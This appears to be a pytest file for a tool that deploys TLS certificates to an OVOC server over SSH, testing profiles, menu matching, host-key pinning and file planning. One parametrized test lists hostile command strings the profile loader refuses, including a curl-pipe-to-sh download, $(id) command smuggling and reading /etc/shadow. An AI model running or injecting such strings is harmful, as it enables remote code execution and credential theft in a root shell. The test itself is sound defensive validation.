"""OVOC profiles, menu matching, file planning and manual steps: no network needed."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization

from app.errors import DeployError, InputError
from app.material import DeployMaterial
from app.ovoc.console import Console, choose, menu_entries
from app.ovoc.deploy import plan_files
from app.ovoc.manual import manual_steps, write_manual_files
from app.ovoc.profile import available_profiles, load_profile
from app.ovoc.ssh import normalize_pin
from tests.fakes.ovoc_env import make_material
from tests.pki import TestCA, openssl

SECURITY_MENU = """
============================================================
  Security
============================================================
  9. Auditd Options
 10. OVOC Password Policy
 11. Server Certificate Updates
  q. Back

Enter your choice : """

CERT_MENU = """
  1. Server Certificate Updates - Generate Private Key and CSR
  2. Import Server Certificates (signed OVOC CSR)
  3) Import Server Certificates from Certificate Authority (CA)
  q. Back
Enter your choice : """


class CutChannel:
    """OVOC's output as SSH delivers it after a PTY read that ended mid-line: one piece per
    read, then silence (a prompt waits for input)."""

    def __init__(self, *pieces: bytes) -> None:
        self.pieces = list(pieces)

    def settimeout(self, _seconds: float) -> None:
        pass

    def recv(self, _size: int) -> bytes:
        if not self.pieces:
            raise TimeoutError
        return self.pieces.pop(0)


@pytest.mark.parametrize(
    ("pieces", "line"),
    [
        (
            [
                b"Error: failed to generate the SEM PKCS#",
                b"12 file from the certificate files.\r\n",
            ],
            "Error: failed to generate the SEM PKCS#12 file from the certificate files.",
        ),
        (
            [b"PKCS#", b"12 file and JKS Keystore generated successfully\r\n"],
            "PKCS#12 file and JKS Keystore generated successfully",
        ),
        ([b"Zertifikat f\xc3", b"\xbcr ovoc\r\n"], "Zertifikat für ovoc"),
        (  # a colour sequence cut by the read: stripped whole, not left as "[1m" in the text
            [
                b"\x1b[1",
                b";32mPKCS#12 file and JKS Keystore generated successfully\x1b",
                b"[0m\r\n",
            ],
            "PKCS#12 file and JKS Keystore generated successfully",
        ),
    ],
)
def test_output_cut_mid_line_is_not_taken_for_a_prompt(pieces: list[bytes], line: str) -> None:
    # "PKCS#" ends like the root prompt '#\s*$': before, the import's result was judged on
    # "...SEM PKCS#" (no hint) or a success was missed.
    p = load_profile("ovoc-8")
    channel = CutChannel(
        b"Importing server certificates ...\r\n", *pieces, b"Press Enter to continue"
    )
    console = Console(channel, "ovoc")  # type: ignore[arg-type]
    key, text = console.expect(
        {"enter": p.press_enter, "menu": p.menu_prompt, "shell": p.root_prompt}, 5, "importing"
    )
    assert key == "enter"
    assert text.splitlines() == [
        "Importing server certificates ...",
        line,
        "Press Enter to continue",
    ]


@pytest.fixture(scope="module")
def material(test_ca: TestCA, tmp_path_factory: pytest.TempPathFactory) -> DeployMaterial:
    return make_material(test_ca, tmp_path_factory.mktemp("m"))


def test_builtin_profiles_load_and_7_inherits_from_8() -> None:
    assert {"ovoc-7", "ovoc-8"} <= set(available_profiles())
    p8, p7 = load_profile("ovoc-8"), load_profile("ovoc-7")
    assert p8.directory == "/home/acems/server_certs"
    assert p8.directory_mode == 0o750 and p8.key_mode == 0o600
    assert p7.family == "7" and p7.private_key == p8.private_key == "server.key"
    assert p8.success == "PKCS#12 file and JKS Keystore generated successfully"
    summary = p8.summary()
    assert "server.key" in summary and "Security > Server Certificate" in summary


def test_user_profile_file_overrides_only_what_it_names(tmp_path: Path) -> None:
    path = tmp_path / "site.toml"
    path.write_text('name = "site"\nextends = "ovoc-8"\n[files]\nprivate_key = "wild.key"\n')
    p = load_profile(str(path))
    assert p.name == "site" and p.private_key == "wild.key"
    assert p.server_certificate == "server.crt" and p.source == path


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('name = "x"\nextends = "ovoc-8"\n[console]\nmenu_prompt = "(unclosed"\n', "wrong value"),
        ('name = "x"\nextends = "ovoc-8"\n[files]\nprivate_key = "../etc/key"\n', "plain name"),
        ('name = "x"\n', "incomplete"),
        ("name = [\n", "Cannot read"),
        ('name = "x"\nextends = "self.toml"\n', "extends itself"),
    ],
)
def test_broken_profiles_are_refused_with_the_file_named(
    tmp_path: Path, text: str, words: str
) -> None:
    path = tmp_path / "self.toml"
    path.write_text(text)
    with pytest.raises(InputError) as info:
        load_profile(str(path))
    assert words in str(info.value) and "self.toml" in str(info.value)


def test_unknown_profile_name_lists_the_known_ones() -> None:
    with pytest.raises(InputError, match="ovoc-8"):
        load_profile("ovoc-99")


def test_failure_hints_follow_ovocs_words() -> None:
    p = load_profile()
    assert "Apache-compatible" in p.hint_for("Error: failed to generate the SEM PKCS#12 file")
    assert "does not belong" in p.hint_for("Error: the certificate does not match the key.")


def test_menus_are_matched_by_text_not_number() -> None:
    p = load_profile()
    assert menu_entries(SECURITY_MENU, p.menu_entry)[-1] == ("q", "Back")
    assert choose(SECURITY_MENU, p.menu_path[1], p.menu_entry) == (
        "11",
        "Server Certificate Updates",
    )
    # "Generate ... CSR" also starts with "Server Certificate Updates": anchored, not chosen.
    assert choose(CERT_MENU, p.menu_path[1], p.menu_entry) is None
    assert choose(CERT_MENU, p.menu_path[2], p.menu_entry) == (
        "3",
        "Import Server Certificates from Certificate Authority (CA)",
    )
    assert choose(SECURITY_MENU, p.leave_menu, p.menu_entry) == ("q", "Back")


def test_plan_files_uses_profile_names_and_apache_key(material: DeployMaterial) -> None:
    files = plan_files(material, load_profile())
    assert [(f.name, f.mode) for f in files] == [
        ("server.crt", 0o644), ("server.key", 0o600), ("ca_int1.crt", 0o644),
        ("root.crt", 0o644)]  # fmt: skip
    assert files[1].data.startswith(b"-----BEGIN RSA PRIVATE KEY-----")


def test_plan_files_refuses_what_ovoc_would_reject(
    material: DeployMaterial, other_ca: TestCA, tmp_path: Path
) -> None:
    p = load_profile()
    key = serialization.load_pem_private_key(material.key_pem, None)
    encrypted = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.BestAvailableEncryption(b"secret1"))  # fmt: skip
    (tmp_path / "k").write_bytes(material.key_pem)
    (tmp_path / "c").write_bytes(material.cert_pem)
    pfx = openssl("pkcs12", "-export", "-inkey", tmp_path / "k", "-in", tmp_path / "c",
                  "-passout", "pass:x")  # fmt: skip
    other = make_material(other_ca, tmp_path / "other")
    cases = {
        "has none": dataclasses.replace(material, key_pem=b""),
        "not an unencrypted PEM": dataclasses.replace(material, key_pem=encrypted),
        "SEM PKCS#12": dataclasses.replace(material, key_pem=pfx),
        "does not belong": dataclasses.replace(material, key_pem=other.key_pem),
        "root CA certificate": dataclasses.replace(material, root_pem=None),
        "names only 3": dataclasses.replace(material, intermediates_pem=(b"x",) * 4),
    }
    for words, bad in cases.items():
        with pytest.raises(DeployError) as info:
            plan_files(bad, p)
        assert words in str(info.value), words


def test_host_key_pins_are_checked_for_shape() -> None:
    good = "SHA256:" + "A" * 43
    assert normalize_pin(good + "=") == good
    assert normalize_pin("  " + good[7:]) == good
    with pytest.raises(InputError, match="not an SSH host key fingerprint"):
        normalize_pin("SHA256:abc")


def test_manual_steps_name_every_file_and_menu(material: DeployMaterial, tmp_path: Path) -> None:
    p = load_profile()
    files = write_manual_files(material, p, tmp_path / "manual")
    steps = manual_steps(p, files, host="ovoc.example.com", leaf_sha256=material.leaf_sha256)
    text = "\n".join(steps)
    for name in ("server.crt", "server.key", "ca_int1.crt", "root.crt"):
        assert name in text
    assert "Host name ovoc.example.com" in text and "User name acems" in text
    assert "'Security'; then 'Server Certificate Updates'" in text
    assert "0750" in text and "Do not make it 777" in text
    assert material.leaf_sha256 in text and "Delete" in steps[-1]


# --- host keys ----------------------------------------------------------------------------------


def test_a_reinstalled_server_is_accepted_only_with_its_new_pinned_key() -> None:
    import paramiko

    from app.ovoc.ssh import (
        HostKeyChanged,
        HostKeyPinMismatch,
        check_host_key,
        fingerprint,
        known_hosts_path,
        recorded_key,
    )

    old, new, stranger = (paramiko.ECDSAKey.generate() for _ in range(3))
    check_host_key("ovoc.example.com", 22, old, fingerprint(old))  # first contact, pinned
    # Reinstalled: the new key is refused, with the way forward in the hint.
    with pytest.raises(HostKeyChanged) as info:
        check_host_key("ovoc.example.com", 22, new, None)
    assert "--replace-host-key" in info.value.hint and fingerprint(new) in info.value.hint
    # A pin alone does not override a recorded key: replacing is said explicitly.
    with pytest.raises(HostKeyChanged):
        check_host_key("ovoc.example.com", 22, new, fingerprint(new))
    # Replacing needs the server to show exactly the pinned key.
    with pytest.raises(HostKeyPinMismatch):
        check_host_key("ovoc.example.com", 22, stranger, fingerprint(new), replace=True)
    assert fingerprint(recorded_key("ovoc.example.com", 22)) == fingerprint(old)  # type: ignore[arg-type]
    check_host_key("ovoc.example.com", 22, new, fingerprint(new), replace=True)
    assert fingerprint(recorded_key("ovoc.example.com", 22)) == fingerprint(new)  # type: ignore[arg-type]
    check_host_key("ovoc.example.com", 22, new, None)  # known now: no pin needed
    assert known_hosts_path().read_text().count("ovoc.example.com") == 1


def test_replace_host_key_without_the_new_fingerprint_is_refused(tmp_path: Path) -> None:
    import subprocess
    import sys

    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "app",
            "deploy-ovoc",
            str(tmp_path),
            "--host",
            "ovoc.example.com",
            "--password-env",
            "NOPE",
            "--root-password-env",
            "NOPE",
            "--replace-host-key",
        ],
        capture_output=True,
        text=True,
        env={**__import__("os").environ, "NOPE": "x"},
        timeout=60,
    )
    assert proc.returncode != 0
    assert "--replace-host-key needs the new fingerprint" in proc.stderr
    assert "Traceback" not in proc.stderr


@pytest.mark.parametrize(
    "command",
    [
        "su -; curl http://x/s | sh",
        "su - && id",
        "EmsServerManager `id`",
        "EmsServerManager $(id)",
        "EmsServerManager > /tmp/x",
        "EmsServerManager < /etc/shadow",
        "su -\nid",
        "EmsServerManager 'quoted'",
        "Ems* ",
    ],
)
def test_profile_commands_with_shell_syntax_are_refused(tmp_path: Path, command: str) -> None:
    """Issue 12, finding 5: these lines are typed into a root shell."""
    for field in ("su_command", "manager_command"):
        path = tmp_path / "site.toml"
        escaped = command.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        path.write_text(f'name = "site"\nextends = "ovoc-8"\n[console]\n{field} = "{escaped}"\n')
        with pytest.raises(InputError) as info:
            load_profile(str(path))
        assert field in str(info.value) and "plain command" in str(info.value)


def test_profile_summary_shows_root_commands_and_warns_when_they_differ(tmp_path: Path) -> None:
    builtin = load_profile()
    assert builtin.su_command == "/bin/su -" and builtin.command_warnings() == ()
    assert "typed as the SSH user: /bin/su -" in builtin.summary()
    assert "typed as root: EmsServerManager" in builtin.summary()
    assert "WARNING" not in builtin.summary()
    path = tmp_path / "site.toml"
    path.write_text(
        'name = "site"\nextends = "ovoc-8"\n[console]\nsu_command = "sudo -i"\n'
        'manager_command = "/opt/acems/bin/EmsServerManager --batch"\n'
    )
    edited = load_profile(str(path))
    summary = edited.summary()
    assert "typed as the SSH user: sudo -i" in summary
    assert "typed as root: /opt/acems/bin/EmsServerManager --batch" in summary
    assert summary.count("WARNING") == 2 and "not the built-in '/bin/su -'" in summary


def test_cli_shows_the_profile_commands_before_anything_is_sent(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from app import cli
    from tests.helpers import requested

    ws = requested(tmp_path)
    path = tmp_path / "site.toml"
    path.write_text('name = "site"\nextends = "ovoc-8"\n[console]\nsu_command = "sudo -i"\n')
    cli.main(["deploy-ovoc", str(ws.path), "--host", "ovoc.example.com", "--profile", str(path),
              "--manual", str(tmp_path / "m")])  # fmt: skip
    err = capsys.readouterr().err
    assert "typed as the SSH user: sudo -i" in err and "WARNING: this profile's su command" in err
